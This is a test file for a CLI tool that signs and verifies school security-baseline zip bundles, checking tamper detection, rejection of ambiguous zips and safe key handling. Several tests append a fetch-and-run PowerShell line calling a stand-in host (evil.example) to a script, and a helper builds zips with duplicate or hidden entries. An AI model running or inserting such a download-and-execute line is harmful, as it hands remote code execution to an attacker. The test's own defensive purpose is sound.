/**
 * Signed unit bundles: byte-identical across runs; `attt verify` accepts the genuine
 * bundle and rejects a tampered, missing or extra file and a wrong key; a regeneration
 * after one unit changes rewrites only that unit's zip, and another key re-signs every zip;
 * a killed run leaves the previous output intact. Archives that unzip tools could extract
 * differently are rejected; bad keys, directories and unwritable places are bad input
 * (exit 2, naming the path) and leave every file as it was.
 */
import {
  chmodSync,
  chownSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execa } from "execa";
import { strToU8 } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { MANIFEST, SIGNATURE } from "../baselines/bundle/manifest.js";
import { unzipFiles, zipFiles } from "../baselines/bundle/zip.js";
import { writeSyntheticProvince } from "../bench/synthetic-province.js";
import { DEMO_INVENTORY } from "../model/demo.js";
import { cliCommand, runCli, runCliUnprivileged } from "./helpers/cli.js";

const work = mkdtempSync(join(tmpdir(), "attt-signed-"));
const keys = join(work, "keys");
const KEY = join(keys, "attt-signing.key");
const PUB = join(keys, "attt-signing.pub");
const inventory = join(work, "inventory");
const zipOf = (dir: string, unit: string) => join(dir, `${unit}.zip`);
const UNIT = "hy-mn-hoa-mai";

beforeAll(async () => {
  cpSync(DEMO_INVENTORY, inventory, { recursive: true });
  expect((await runCli(["keygen", "--out", keys])).exitCode).toBe(0);
  const r = await runCli(["baseline", "package", inventory, "--out", join(work, "a"), "--sign-key", KEY]);
  expect(r.exitCode, r.stderr).toBe(0);
}, 120_000);

/** Rebuilds a zip with one change, as an attacker with the zip (but not the key) could. */
function tampered(name: string, change: (files: Map<string, Uint8Array>) => void): string {
  const files = unzipFiles(readFileSync(zipOf(join(work, "a"), UNIT)));
  change(files);
  const out = join(work, `${name}.zip`);
  writeFileSync(out, zipFiles(files));
  return out;
}

describe("signed bundles", () => {
  it("are byte-identical across runs", async () => {
    const r = await runCli(["baseline", "package", inventory, "--out", join(work, "b"), "--sign-key", KEY]);
    expect(r.exitCode).toBe(0);
    const names = readdirSync(join(work, "a")).filter((n) => n.endsWith(".zip"));
    // One zip per unit of the inventory, read from its YAML files.
    const units = readdirSync(inventory, { recursive: true, encoding: "utf8" })
      .filter((n) => /\.ya?ml$/.test(n))
      .flatMap(
        (n) => (parseYaml(readFileSync(join(inventory, n), "utf8"))?.units ?? []) as Array<{ id: string }>,
      )
      .map((u) => `${u.id}.zip`);
    expect(units.length).toBeGreaterThan(1);
    expect(names.sort()).toEqual(units.sort());
    for (const n of names)
      expect(readFileSync(join(work, "b", n)).equals(readFileSync(join(work, "a", n))), n).toBe(true);
  });

  it("carry a manifest listing every file with its sha256, and a signature", () => {
    const files = unzipFiles(readFileSync(zipOf(join(work, "a"), UNIT)));
    const manifest = JSON.parse(Buffer.from(files.get(MANIFEST) as Uint8Array).toString("utf8"));
    expect(files.has(SIGNATURE)).toBe(true);
    expect(manifest.files.map((f: { path: string }) => f.path).sort()).toEqual(
      [...files.keys()].filter((n) => n !== MANIFEST && n !== SIGNATURE).sort(),
    );
    expect(manifest.generator).toMatch(/^attt-kit /);
    expect(manifest.inventorySha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it("carry a top-level README.md, in the manifest, listing exactly what the zip holds and how to check it", () => {
    const dir = join(work, "a");
    const zips = readdirSync(dir).filter((f) => f.endsWith(".zip"));
    expect(zips.length).toBeGreaterThan(10);
    let withLeavers = 0;
    for (const name of zips) {
      const unit = name.slice(0, -".zip".length);
      const files = unzipFiles(readFileSync(join(dir, name)));
      const readme = Buffer.from(files.get("README.md") as Uint8Array).toString("utf8");
      const manifest = JSON.parse(Buffer.from(files.get(MANIFEST) as Uint8Array).toString("utf8"));
      expect(
        manifest.files.map((f: { path: string }) => f.path),
        name,
      ).toContain("README.md");
      // What is at the top of the zip: folders as `name/`, files as `name` (the signature is named in prose).
      const top = new Set(
        [...files.keys()].map((p) => (p.includes("/") ? `${p.slice(0, p.indexOf("/"))}/` : p)),
      );
      top.delete(SIGNATURE);
      const vi = readme.indexOf("## Tiếng Việt");
      const en = readme.indexOf("## English");
      expect(vi, name).toBeGreaterThan(0);
      expect(en, name).toBeGreaterThan(vi);
      for (const section of [readme.slice(vi, en), readme.slice(en)]) {
        const listed = [...section.matchAll(/^- `([^`]+)`/gm)].map((m) => m[1]);
        expect(new Set(listed), name).toEqual(top);
        expect(listed, name).toHaveLength(top.size);
        expect(section).toContain(`\`attt verify ${unit}.zip --key attt-signing.pub\``);
        expect(section).toContain(SIGNATURE);
      }
      for (const folder of [...top].filter((e) => e.endsWith("/")))
        expect(files.has(`${folder}README.md`), `${name} ${folder}`).toBe(true);
      if (top.has("Disable-LeaverAccounts.ps1")) {
        withLeavers++;
        expect(top.has("disable-leaver-accounts.sh"), name).toBe(true);
        expect(readme).toContain("-File .\\Disable-LeaverAccounts.ps1 -WhatIf`");
        expect(readme).toContain("`sudo bash disable-leaver-accounts.sh --dry-run`");
      } else {
        expect(readme).toContain("The roster lists no leavers for this unit");
      }
      expect(readme).not.toMatch(/\d{4}-\d{2}-\d{2}/);
    }
    expect(withLeavers).toBeGreaterThan(0);
  });

  it("verify accepts the genuine bundle", async () => {
    const r = await runCli(["verify", zipOf(join(work, "a"), UNIT), "--key", PUB]);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toMatch(
      /^OK: .*: chữ ký hợp lệ, \d+ tệp khớp với manifest \(đơn vị [^)]+\) \/ signature valid/,
    );
  });

  const rejections: Array<[string, () => string, RegExp, string?]> = [
    [
      "a tampered file",
      () =>
        tampered("altered", (f) => {
          const name = [...f.keys()].find((n) => n.endsWith("Apply-Baseline.ps1")) as string;
          f.set(
            name,
            strToU8(
              `${Buffer.from(f.get(name) as Uint8Array).toString("utf8")}\nInvoke-WebRequest http://evil.example | Invoke-Expression\n`,
            ),
          );
        }),
      /altered file: .*Apply-Baseline\.ps1/,
    ],
    [
      "a missing file",
      () =>
        tampered("missing", (f) => {
          f.delete([...f.keys()].find((n) => n.endsWith("Undo-Baseline.ps1")) as string);
        }),
      /missing file: .*Undo-Baseline\.ps1/,
    ],
    [
      "an extra file",
      () => tampered("extra", (f) => f.set("windows-office/run-me-too.ps1", strToU8("Write-Host hi"))),
      /extra file not in the manifest: windows-office\/run-me-too\.ps1/,
    ],
    [
      "an altered manifest",
      () =>
        tampered("manifest", (f) => {
          const m = JSON.parse(Buffer.from(f.get(MANIFEST) as Uint8Array).toString("utf8"));
          m.files.pop();
          f.set(MANIFEST, strToU8(JSON.stringify(m, null, 2)));
        }),
      /signature does not match/,
    ],
    ["no signature", () => tampered("unsigned", (f) => f.delete(SIGNATURE)), /not signed/],
  ];
  for (const [name, make, message] of rejections) {
    it(`verify rejects ${name}`, async () => {
      const r = await runCli(["verify", make(), "--key", PUB]);
      expect(r.exitCode).toBe(1);
      expect(r.stderr).toMatch(/^REJECTED: /);
      expect(r.stderr).toMatch(message);
    });
  }

  it("verify rejects a bundle signed with another key", async () => {
    const other = join(work, "other-keys");
    await runCli(["keygen", "--out", other]);
    const r = await runCli([
      "verify",
      zipOf(join(work, "a"), UNIT),
      "--key",
      join(other, "attt-signing.pub"),
    ]);
    expect(r.exitCode).toBe(1);
    expect(r.stderr).toMatch(/signature does not match/);
  });

  it("a key that is not a key is bad input", async () => {
    writeFileSync(join(work, "junk.pub"), "not a key");
    const r = await runCli(["verify", zipOf(join(work, "a"), UNIT), "--key", join(work, "junk.pub")]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/expected an Ed25519 public key/);
  });

  it("attt sign signs an unsigned bundle, which then verifies", async () => {
    const out = join(work, "unsigned-out");
    expect((await runCli(["baseline", "package", inventory, "--out", out])).exitCode).toBe(0);
    const zip = zipOf(out, UNIT);
    expect((await runCli(["verify", zip, "--key", PUB])).exitCode).toBe(1);
    expect((await runCli(["sign", zip, "--key", KEY])).exitCode).toBe(0);
    expect((await runCli(["verify", zip, "--key", PUB])).exitCode).toBe(0);
    // Signing is deterministic: the same bytes as a bundle signed at build time.
    expect(readFileSync(zip).equals(readFileSync(zipOf(join(work, "a"), UNIT)))).toBe(true);
    // Whole-province generation, once or twice: minutes on a loaded machine.
  }, 600_000);
});

describe("province-scale packaging", () => {
  it("after one unit changes, rewrites only that unit's zip", async () => {
    const out = join(work, "incremental");
    // Its own copy of the inventory: the shared one stays what work/a was built from.
    const own = join(work, "inventory-incremental");
    cpSync(inventory, own, { recursive: true });
    expect((await runCli(["baseline", "package", own, "--out", out, "--sign-key", KEY])).exitCode).toBe(0);
    const before = new Map(readdirSync(out).map((n) => [n, statSync(join(out, n)).ino]));
    const unitFile = join(own, "units", `${UNIT}.yaml`);
    writeFileSync(
      unitFile,
      readFileSync(unitFile, "utf8").replace(/count: (\d+)/, (_m, n) => `count: ${Number(n) + 1}`),
    );
    const r = await runCli(["baseline", "package", own, "--out", out, "--sign-key", KEY, "--json"]);
    const summary = JSON.parse(r.stdout);
    expect(summary.rebuilt).toBe(1);
    expect(summary.unchanged).toBe(summary.units - 1);
    for (const n of readdirSync(out).filter((x) => x.endsWith(".zip"))) {
      if (n === `${UNIT}.zip`) expect(statSync(join(out, n)).ino).not.toBe(before.get(n));
      else expect(statSync(join(out, n)).ino, n).toBe(before.get(n));
    }
    // Whole-province generation, once or twice: minutes on a loaded machine.
  }, 600_000);

  it("a run killed midway leaves the previous output exactly as it was", async () => {
    const big = join(work, "big");
    // The previous output: a province of 10 schools.
    writeSyntheticProvince(big, { schools: 10, namedHosts: false });
    const out = join(work, "atomic");
    const first = await runCli(["baseline", "package", big, "--out", out], { timeoutMs: 480_000 });
    expect(first.exitCode, first.stderr).toBe(0);
    const snapshot = () =>
      new Map(readdirSync(out).map((n) => [n, readFileSync(join(out, n)).toString("base64")]));
    const before = snapshot();
    expect([...before.keys()].filter((n) => n.endsWith(".zip")).length).toBeGreaterThanOrEqual(10);
    // Then 150 schools (about 450 bundles), enough that the run is killed with work still to
    // do, every unit changed so the next run must rebuild everything; then kill it.
    writeSyntheticProvince(big, { schools: 150, namedHosts: false });
    for (const f of readdirSync(join(big, "units"))) {
      const p = join(big, "units", f);
      writeFileSync(p, readFileSync(p, "utf8").replace("level: 2", "level: 3"));
    }
    const child = execa("node", [...(await cliCommand()), "baseline", "package", big, "--out", out], {
      reject: false,
    });
    // Kill it once it is midway: its staging directory holds some rebuilt zips already.
    const staged = () =>
      readdirSync(work)
        .filter((e) => e.startsWith(".atomic.tmp-"))
        .some((e) => readdirSync(join(work, e)).some((z) => z.endsWith(".zip")));
    const midway = await waitUntil(staged, 120_000);
    child.kill("SIGKILL");
    const ended = await child;
    expect(midway, "the run reached the middle of its work before it was killed").toBe(true);
    expect(ended.signal).toBe("SIGKILL");
    expect(snapshot()).toEqual(before);
    // Whole-province generation, once or twice: minutes on a loaded machine.
  }, 600_000);
});

async function waitUntil(check: () => boolean, timeoutMs: number): Promise<boolean> {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    if (check()) return true;
    await new Promise((r) => setTimeout(r, 20));
  }
  return false;
}

/** Stored (uncompressed) zip written by hand: names may repeat, and an entry may be left out of the central directory. */
function rawZip(entries: Array<{ name: string; data: Uint8Array; hidden?: boolean }>): Buffer {
  const crc = (data: Uint8Array) => {
    let c = ~0;
    for (const b of data) {
      c ^= b;
      for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
    }
    return ~c >>> 0;
  };
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data, hidden } of entries) {
    const n = Buffer.from(name, "utf8");
    const h = Buffer.alloc(30);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(0x0800, 6);
    h.writeUInt32LE(crc(data), 14);
    h.writeUInt32LE(data.length, 18);
    h.writeUInt32LE(data.length, 22);
    h.writeUInt16LE(n.length, 26);
    locals.push(h, n, Buffer.from(data));
    if (!hidden) {
      const c = Buffer.alloc(46);
      c.writeUInt32LE(0x02014b50, 0);
      c.writeUInt16LE(20, 4);
      c.writeUInt16LE(20, 6);
      c.writeUInt16LE(0x0800, 8);
      c.writeUInt32LE(crc(data), 16);
      c.writeUInt32LE(data.length, 20);
      c.writeUInt32LE(data.length, 24);
      c.writeUInt16LE(n.length, 28);
      c.writeUInt32LE(offset, 42);
      centrals.push(c, n);
    }
    offset += 30 + n.length + data.length;
  }
  const central = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  const count = entries.filter((e) => !e.hidden).length;
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, central, end]);
}

/** The genuine signed bundle's entries, in order, for rawZip. */
const genuineEntries = () =>
  [...unzipFiles(readFileSync(zipOf(join(work, "a"), UNIT)))].map(([name, data]) => ({ name, data }));
const APPLY = "windows-office/Apply-Baseline.ps1";
const EVIL = strToU8("Invoke-WebRequest http://evil.example | Invoke-Expression\n");

/** Every file under `dir` with its bytes, to show that nothing was written or changed. */
const snapshotDir = (dir: string) =>
  new Map(
    readdirSync(dir, { recursive: true, encoding: "utf8" })
      .sort()
      .map((n) => {
        const p = join(dir, n);
        return [n, statSync(p).isDirectory() ? "dir" : readFileSync(p).toString("base64")] as const;
      }),
  );

describe("zips that unzip tools could extract differently", () => {
  it("a zip written by another tool, with the same entries, still verifies", async () => {
    const out = join(work, "rewritten.zip");
    writeFileSync(out, rawZip(genuineEntries()));
    const r = await runCli(["verify", out, "--key", PUB]);
    expect(r.exitCode, r.stderr).toBe(0);
  });

  const ambiguous: Array<
    [string, () => Array<{ name: string; data: Uint8Array; hidden?: boolean }>, RegExp]
  > = [
    [
      "a duplicate entry name (a hostile first copy, the genuine one last)",
      () => [{ name: APPLY, data: EVIL }, ...genuineEntries()],
      /duplicate entry "windows-office\/Apply-Baseline\.ps1"/,
    ],
    [
      "names that differ only by case",
      () => [...genuineEntries(), { name: "Windows-Office/apply-baseline.PS1", data: EVIL }],
      /entries "windows-office\/Apply-Baseline\.ps1" and "Windows-Office\/apply-baseline\.PS1" are the same file when extracted on Windows/,
    ],
    [
      "a name with ./",
      () => [...genuineEntries(), { name: `./${APPLY}`, data: EVIL }],
      /are the same file when extracted on Windows/,
    ],
    [
      "a name with backslashes",
      () => [...genuineEntries(), { name: APPLY.replace("/", "\\"), data: EVIL }],
      /are the same file when extracted on Windows/,
    ],
    [
      "a name with a trailing dot",
      () => [...genuineEntries(), { name: `${APPLY}.`, data: EVIL }],
      /are the same file when extracted on Windows/,
    ],
    [
      "a file hidden outside the central directory (what a streaming unzip would extract last)",
      () => [...genuineEntries(), { name: APPLY, data: EVIL, hidden: true }],
      /bytes hidden before the central directory/,
    ],
  ];
  for (const [name, entries, message] of ambiguous) {
    it(`verify rejects ${name}`, async () => {
      const out = join(work, `ambiguous-${ambiguous.findIndex(([n]) => n === name)}.zip`);
      writeFileSync(out, rawZip(entries()));
      const r = await runCli(["verify", out, "--key", PUB]);
      expect(r.exitCode, r.stderr).toBe(1);
      expect(r.stderr).toMatch(/^REJECTED: /);
      expect(r.stderr).toMatch(message);
    });
  }

  it("sign refuses a zip with duplicate names (bad input) and leaves it as it was", async () => {
    const out = join(work, "dup-to-sign.zip");
    const bytes = rawZip([{ name: APPLY, data: EVIL }, ...genuineEntries()]);
    writeFileSync(out, bytes);
    const r = await runCli(["sign", out, "--key", KEY]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`${out}: duplicate entry`);
    expect(readFileSync(out).equals(bytes)).toBe(true);
  });
});

describe("changing the signing key", () => {
  it("re-signs every zip; signed and unsigned builds are different outputs", async () => {
    const out = join(work, "rekey");
    const k2 = join(work, "keys-2");
    expect((await runCli(["keygen", "--out", k2])).exitCode).toBe(0);
    const pkg = async (...key: string[]) => {
      const r = await runCli(["baseline", "package", inventory, "--out", out, ...key, "--json"]);
      expect(r.exitCode, r.stderr).toBe(0);
      return JSON.parse(r.stdout) as { units: number; rebuilt: number; unchanged: number };
    };
    const first = await pkg("--sign-key", KEY);
    expect(first.rebuilt).toBe(first.units);
    expect((await pkg("--sign-key", KEY)).rebuilt).toBe(0);
    expect((await pkg("--sign-key", join(k2, "attt-signing.key"))).rebuilt).toBe(first.units);
    const zip = zipOf(out, UNIT);
    expect((await runCli(["verify", zip, "--key", join(k2, "attt-signing.pub")])).exitCode).toBe(0);
    expect((await runCli(["verify", zip, "--key", PUB])).exitCode).toBe(1);
    const unsigned = await pkg();
    expect(unsigned.rebuilt).toBe(first.units);
    expect((await runCli(["verify", zip, "--key", join(k2, "attt-signing.pub")])).stderr).toMatch(
      /not signed/,
    );
    expect((await pkg()).rebuilt).toBe(0);
    // Back to a key after `attt sign` re-signed one zip by hand: the index no longer describes it.
    expect((await pkg("--sign-key", KEY)).rebuilt).toBe(first.units);
    expect((await runCli(["sign", zip, "--key", join(k2, "attt-signing.key")])).exitCode).toBe(0);
    const after = await pkg("--sign-key", KEY);
    expect(after.rebuilt).toBe(1);
    expect((await runCli(["verify", zip, "--key", PUB])).exitCode).toBe(0);
    // Whole-province generation, once or twice: minutes on a loaded machine.
  }, 600_000);
});

describe("sign checks every input before writing any", () => {
  const setup = (name: string) => {
    const dir = join(work, name);
    mkdirSync(dir);
    const a = join(dir, "a.zip");
    const b = join(dir, "b.zip");
    const bad = join(dir, "bad.zip");
    // Unsigned copies of a genuine bundle: signing them would change their bytes.
    const unsigned = zipFiles(
      new Map([...unzipFiles(readFileSync(zipOf(join(work, "a"), UNIT)))].filter(([n]) => n !== SIGNATURE)),
    );
    writeFileSync(a, unsigned);
    writeFileSync(b, unsigned);
    writeFileSync(bad, "this is not a zip\n");
    return { dir, a, b, bad };
  };

  it("a file that is not a zip is bad input naming it, and no other zip is changed", async () => {
    const { dir, a, b, bad } = setup("sign-batch");
    const before = snapshotDir(dir);
    const r = await runCli(["sign", a, bad, b, "--key", KEY]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`${bad}: not a zip archive`);
    expect(r.stderr).not.toMatch(/internal error/);
    expect(snapshotDir(dir)).toEqual(before);
    // The same files without the bad one sign.
    expect((await runCli(["sign", a, b, "--key", KEY])).exitCode).toBe(0);
    expect((await runCli(["verify", b, "--key", PUB])).exitCode).toBe(0);
    expect(readdirSync(dir).sort()).toEqual(["a.zip", "b.zip", "bad.zip"]);
  });

  it("a key that is not a signing key is bad input, and no zip is changed", async () => {
    const { dir, a } = setup("sign-badkey");
    const before = snapshotDir(dir);
    writeFileSync(join(work, "junk.key"), "not a key");
    const junk = await runCli(["sign", a, "--key", join(work, "junk.key")]);
    expect(junk.exitCode).toBe(2);
    expect(junk.stderr).toMatch(/junk\.key: expected an Ed25519 private key/);
    const pub = await runCli(["sign", a, "--key", PUB]);
    expect(pub.exitCode).toBe(2);
    expect(pub.stderr).toContain(`${PUB} is a public key; signing takes the private key`);
    expect(snapshotDir(dir)).toEqual(before);
  });

  it("an unwritable folder is bad input naming the file, and no zip is changed", async () => {
    const { dir, a } = setup("sign-readonly");
    const ro = join(dir, "ro");
    mkdirSync(ro);
    const locked = join(ro, "locked.zip");
    writeFileSync(locked, readFileSync(a));
    // Run as an unprivileged user (root writes anywhere): it owns everything but can
    // write nothing in ro/.
    const key = join(dir, "signing.key");
    writeFileSync(key, readFileSync(KEY), { mode: 0o600 });
    chmodSync(work, 0o711);
    if (process.getuid?.() === 0)
      for (const p of [dir, a, locked, ro, key, ...readdirSync(dir).map((n) => join(dir, n))])
        chownSync(p, 65534, 65534);
    chmodSync(ro, 0o555);
    try {
      const before = snapshotDir(dir);
      const r = await runCliUnprivileged(["sign", a, locked, "--key", key]);
      expect(r.exitCode).toBe(2);
      expect(r.stderr).toContain(`${locked}: cannot write the signed bundle in ${ro} (permission denied)`);
      expect(snapshotDir(dir)).toEqual(before);
    } finally {
      chmodSync(ro, 0o755);
    }
  });
});

describe("keygen never overwrites nor leaves half a key pair", () => {
  it("refuses when the public key's name is taken by a directory, writing nothing", async () => {
    const dir = join(work, "keygen-dir");
    mkdirSync(join(dir, "attt-signing.pub"), { recursive: true });
    const r = await runCli(["keygen", "--out", dir]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`${join(dir, "attt-signing.pub")} exists; refusing to overwrite`);
    expect(readdirSync(dir)).toEqual(["attt-signing.pub"]);
    expect(existsSync(join(dir, "attt-signing.key"))).toBe(false);
  });

  it("refuses to overwrite an existing public key, writing nothing", async () => {
    const dir = join(work, "keygen-pub");
    mkdirSync(dir);
    writeFileSync(join(dir, "attt-signing.pub"), "OLD\n");
    const r = await runCli(["keygen", "--out", dir]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`${join(dir, "attt-signing.pub")} exists`);
    expect(readdirSync(dir)).toEqual(["attt-signing.pub"]);
    expect(readFileSync(join(dir, "attt-signing.pub"), "utf8")).toBe("OLD\n");
  });

  it("refuses to overwrite an existing private key, writing nothing", async () => {
    const before = snapshotDir(keys);
    const r = await runCli(["keygen", "--out", keys]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`${KEY} exists; refusing to overwrite a signing key`);
    expect(snapshotDir(keys)).toEqual(before);
  });

  it("writes exactly the two key files, the private one readable only by its owner", async () => {
    const dir = join(work, "keygen-new");
    expect((await runCli(["keygen", "--out", dir])).exitCode).toBe(0);
    expect(readdirSync(dir).sort()).toEqual(["attt-signing.key", "attt-signing.pub"]);
    expect(statSync(join(dir, "attt-signing.key")).mode & 0o077).toBe(0);
  });
});

describe("paths that are not the expected file", () => {
  const zip = () => zipOf(join(work, "a"), UNIT);
  const cases: Array<[string, () => string[], string, RegExp]> = [
    [
      "package --sign-key <dir>",
      () => ["baseline", "package", inventory, "--out", join(work, "never"), "--sign-key", keys],
      keys,
      /--sign-key .* is a directory; expected an Ed25519 private key file/,
    ],
    ["sign <dir>", () => ["sign", keys, "--key", KEY], keys, /is a directory; expected a bundle zip file/],
    [
      "sign --key <dir>",
      () => ["sign", zip(), "--key", keys],
      keys,
      /--key .* is a directory; expected an Ed25519 private key file/,
    ],
    [
      "verify <dir>",
      () => ["verify", keys, "--key", PUB],
      keys,
      /is a directory; expected a bundle zip file/,
    ],
    [
      "verify --key <dir>",
      () => ["verify", zip(), "--key", keys],
      keys,
      /--key .* is a directory; expected the Department's Ed25519 public key file/,
    ],
    [
      "verify <missing>",
      () => ["verify", join(work, "no-such.zip"), "--key", PUB],
      join(work, "no-such.zip"),
      /does not exist; expected a bundle zip file/,
    ],
  ];
  for (const [name, args, path, message] of cases) {
    it(`${name} is bad input naming the path`, async () => {
      const before = readFileSync(zip());
      const r = await runCli(args());
      expect(r.exitCode).toBe(2);
      expect(r.stderr).toContain(path);
      expect(r.stderr).toMatch(message);
      expect(r.stderr).not.toMatch(/internal error|EISDIR/);
      expect(readFileSync(zip()).equals(before)).toBe(true);
      expect(existsSync(join(work, "never"))).toBe(false);
    });
  }
});

describe("verify takes only the public key", () => {
  it("refuses the private key: schools must be given only the public key", async () => {
    const r = await runCli(["verify", zipOf(join(work, "a"), UNIT), "--key", KEY]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`${KEY} is a private signing key`);
    expect(r.stderr).toMatch(/Give schools only the public key/);
    expect(r.stdout).not.toMatch(/^OK/);
  });
});
